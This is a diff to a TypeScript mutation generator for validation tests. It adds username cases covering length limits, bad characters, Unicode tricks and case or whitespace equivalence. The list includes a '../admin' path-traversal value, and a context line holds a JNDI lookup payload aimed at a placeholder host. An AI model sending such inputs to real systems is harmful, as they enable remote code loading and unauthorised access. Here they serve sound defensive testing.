@@ -31,6 +31,8 @@ export type FieldSpec =
   | { kind: "image" }
   | { kind: "email" }
   | { kind: "password"; min: number; max: number }
+  /** A username (`USERNAME_PATTERN`); the base value is one already taken. */
+  | { kind: "username" }
   | { kind: "id" };
 
 const MB = 1024 * 1024;
@@ -253,6 +255,35 @@ export function mutationsOf(spec: FieldSpec, base: Json): Mutation[] {
         odd("a JNDI lookup", "${jndi:ldap://evil.example/a}"),
         odd(`exactly ${spec.max} characters`, "y".repeat(spec.max)),
       ];
+    case "username": {
+      const name = String(base);
+      return [
+        ...wrongTypes(),
+        invalid("null", null),
+        invalid("empty", ""),
+        invalid("only whitespace", "   "),
+        invalid("two characters", "ab"),
+        invalid("31 characters", "a".repeat(31)),
+        invalid("a leading hyphen", `-${name}`),
+        invalid("a trailing underscore", `${name}_`),
+        invalid("a space inside", "crate digger"),
+        invalid("a dot", "crate.digger"),
+        invalid("a slash", "crate/digger"),
+        invalid("a traversal", "../admin"),
+        invalid("an at sign", "me@example.com"),
+        invalid("a letter outside a-z", "björn"),
+        invalid("emoji", "🎵🎵🎵"),
+        invalid("a zero-width space", `${name}\u200b`),
+        invalid("a NUL", `${name}\u0000`),
+        invalid("a right-to-left override", `\u202e${name}`),
+        invalid("full-width letters", "ａｂｃ"),
+        invalid("a lone surrogate", "ab\ud800c"),
+        huge,
+        // Usernames are trimmed and compared lower-cased: these are the same, taken name.
+        { name: "the same name in upper case", value: name.toUpperCase(), verdict: "same" },
+        { name: "the same name padded with whitespace", value: ` \t${name}\n `, verdict: "same" },
+      ];
+    }
     case "id": {
       const id = String(base);
       return [
